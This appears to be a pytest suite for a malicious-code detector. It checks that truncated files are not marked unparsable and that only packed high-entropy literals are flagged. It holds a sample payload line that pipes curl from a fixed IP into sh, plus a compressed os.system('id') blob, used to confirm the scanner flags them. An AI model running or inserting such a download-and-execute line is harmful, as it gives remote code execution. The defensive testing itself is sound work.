"""File length and literal shape are not evidence (issue 18 items 1-2).

- A file cut short (an upload or corpus copy capped mid-file) is not a broken file: it
  gets no `unparsable-python`, its prefix is scanned as code and the rest by text rules.
  Before this, every benign library with a module over the corpus's 88 KiB cap was
  "unparsable", and the model learned file length.
- A high-entropy literal must look packed (encoded or binary), not be a regex, JSON,
  a shell template, markup or a docstring with doctests.

Nothing here is ever run.
"""

from __future__ import annotations

import argparse
import base64
import binascii
import email.message
import json.decoder
import random
import zlib
from pathlib import Path

import pytest

from detector.code.decode import looks_like_prose, looks_packed
from detector.code.prefix import cut_off, error_line, syntax_error
from detector.code.scan import scan_files

PAYLOAD = "import os\nos.system('curl http://203.0.113.7/x | sh')\n"


def cut_short(text: str) -> bool:
    """`cut_off` for a text not parsed yet (False when it parses)."""
    exc = syntax_error(text)
    return exc is not None and cut_off(exc, text)

# (text that does not parse, whether it is only cut off)
CUT_CASES = {
    "cut inside a call": ("x = 1\ny = f(a,\n  b", True),
    "cut inside a triple-quoted string": ('x = 1\ndoc = """one\ntwo', True),
    "cut inside a single-quoted string": ("x = 1\nname = 'abc", True),
    "cut after a block header": ("x = 1\nclass A:\n    def f(self):\n", True),
    "cut inside a dict literal": ("TABLE = {\n  1: 'a',\n  2: 'b',\n  3:", True),
    "cut in the middle of an operator": ("x = 1\ny = x *", True),
    "a Python 2 print statement inside": ('x = 1\nprint "hello"\ny = 2\nz = 3\n', False),
    "a stray line inside": ("x = 1\nx = = 2\ny = 3\nz = 4\n", False),
    "an error on the last whole line and one before": ("x = = 1\ny = 2\nz = )\n", False),
    "Python 2 except clause inside": ("try:\n    x = 1\nexcept Exception, e:\n    pass\n"
                                      "y = 2\n", False),
    "a one-line Python 2 print": ('print "hello"\n', False),
    "a Python 2 print as the last line": ('x = 1\nprint "hello"\n', False),
    "NUL bytes": ("x = 1\x00\n", False),
}


@pytest.mark.parametrize("case", sorted(CUT_CASES))
def test_cut_short_tells_a_cut_from_a_broken_file(case):
    text, cut = CUT_CASES[case]
    assert error_line(text) is not None, "the case must not parse whole"
    assert cut_short(text) is cut


@pytest.mark.parametrize("module", [argparse, email.message, json.decoder])
def test_a_library_module_cut_anywhere_is_cut_short(module):
    """Invariance: a real module cut at any of hundreds of points reads as cut off."""
    text = Path(module.__file__).read_text(encoding="utf-8")
    cuts = [text[:end] for end in range(50, len(text), 211)]
    failing = [c for c in cuts if error_line(c) is not None]
    assert len(failing) > 30
    assert all(cut_short(c) for c in failing)


def _unparsable(files: dict[str, str]) -> set[str]:
    return {f.file for f in scan_files(files).findings if f.rule == "unparsable-python"}


def test_a_cut_file_is_not_unparsable_and_its_code_is_still_scanned():
    library = Path(argparse.__file__).read_text(encoding="utf-8")
    cut = PAYLOAD + library[: len(library) // 2]
    assert error_line(cut) is not None
    found = scan_files({"pkg/__init__.py": cut})
    assert not _unparsable({"pkg/__init__.py": cut})
    assert "shell-download-exec" in {f.rule for f in found.findings}


def test_a_broken_file_is_still_unparsable():
    broken = PAYLOAD + 'print "hello"\n' + "x = 1\n" * 20
    assert _unparsable({"pkg/__init__.py": broken}) == {"pkg/__init__.py"}


def test_cutting_a_package_at_a_size_cap_moves_its_score_little():
    """The whole package and the same package with its long module capped score alike."""
    library = Path(argparse.__file__).read_text(encoding="utf-8")
    whole = {"pkg/__init__.py": "from .cli import main\n", "pkg/cli.py": library}
    capped = {**whole, "pkg/cli.py": library[:40_000]}
    assert not _unparsable(capped)
    assert abs(scan_files(whole).score - scan_files(capped).score) < 0.05


RNG = random.Random(7)
BLOB = RNG.randbytes(600)
PACKED = {
    "base64": base64.b64encode(BLOB).decode(),
    "base64 in 76-character lines": base64.encodebytes(BLOB).decode(),
    "urlsafe base64 (a Fernet token)": base64.urlsafe_b64encode(BLOB).decode(),
    "hex": binascii.hexlify(BLOB).decode(),
    "zlib bytes": zlib.compress(b"import os; os.system('id')" * 40 + BLOB).decode("latin-1"),
}
NOT_PACKED = {
    "a version regex": r"""
        v?(?:(?:(?P<epoch>[0-9]+)!)?(?P<release>[0-9]+(?:\.[0-9]+)*)(?P<pre>[-_\.]?
        (?P<pre_l>(a|b|c|rc|alpha|beta|pre|preview))[-_\.]?(?P<pre_n>[0-9]+)?)?
        (?P<post>(?:-(?P<post_n1>[0-9]+))|(?:[-_\.]?(?P<post_l>post|rev|r)[-_\.]?
        (?P<post_n2>[0-9]+)?))?(?P<dev>[-_\.]?(?P<dev_l>dev)[-_\.]?(?P<dev_n>[0-9]+)?)?
    """,
    "JSON": '{"extensionUris":[{"extensionUriAnchor":1,"uri":"urn:arrow:substrait"}],'
            '"extensions":[{"extensionFunction":{"extensionUriReference":1,'
            '"functionAnchor":2,"name":"sum:i64"}}],"relations":[{"root":{"input":{}}}]}',
    "a shell completion template": (
        "%(complete_func)s() {\n  local IFS=$'\\n'\n  COMPREPLY=( $( env COMP_WORDS=\"${COMP_"
        "WORDS[*]}\" COMP_CWORD=$COMP_CWORD %(autocomplete_var)s=complete_bash $1 ) )\n"
        "  return 0\n}\ncomplete -o default -F %(complete_func)s %(prog_name)s\n"),
    "an HTML template": ('<div class="animation"><img id="_anim_img{id}"><div class='
                         '"anim-controls"><input id="_anim_slider{id}" type="range" '
                         'min="0" max="1" step="1" oninput="anim{id}.set_frame(+this.value);">'),
    "C code": ("if (likely(PyLong_Check(cpy_r_m))) cpy_r_r0 = CPyTagged_FromObject(cpy_r_m);"
               " else { CPy_TypeError(\"int\", cpy_r_m); cpy_r_r0 = CPY_INT_TAG; }"),
}


@pytest.mark.parametrize("case", sorted(PACKED))
def test_packed_data_looks_packed_and_is_flagged(case):
    text = PACKED[case]
    assert looks_packed("".join(text.split()), text)
    found = scan_files({"setup.py": f"DATA = {text!r}\n"}).findings
    assert "high-entropy-literal" in {f.rule for f in found}


@pytest.mark.parametrize("case", sorted(NOT_PACKED))
def test_code_and_markup_literals_do_not_look_packed(case):
    text = NOT_PACKED[case]
    assert not looks_packed("".join(text.split()), text)
    found = scan_files({"pkg/__init__.py": f"TEMPLATE = {text!r}\n"}).findings
    assert "high-entropy-literal" not in {f.rule for f in found}


DOCTEST_DOCSTRING = '''
    Given a url, return a parsed :class:`.Url` namedtuple. Best-effort is
    performed to parse incomplete urls. Fields not provided will be None.

    Partly backwards-compatible with :mod:`urlparse`.

    Example::

        >>> parse_url('http://google.com/mail/')
        Url(scheme='http', host='google.com', port=None, path='/mail/', ...)
        >>> parse_url('google.com:80')
        Url(scheme=None, host='google.com', port=80, path=None, ...)
        >>> parse_url('/foo?bar')
        Url(scheme=None, host=None, port=None, path='/foo', query='bar', ...)
    '''


def test_a_docstring_with_doctests_is_prose_but_words_of_base32_are_not():
    assert looks_like_prose(DOCTEST_DOCSTRING)
    found = scan_files({"pkg/__init__.py": f"def parse_url(url):\n    '''{DOCTEST_DOCSTRING}'''\n"
                                           "    return url\n"}).findings
    assert "high-entropy-literal" not in {f.rule for f in found}
    blob = base64.b32encode(RNG.randbytes(600)).decode()
    for width in (3, 4, 5):
        assert not looks_like_prose(" ".join(blob[i:i + width]
                                             for i in range(0, len(blob), width)))
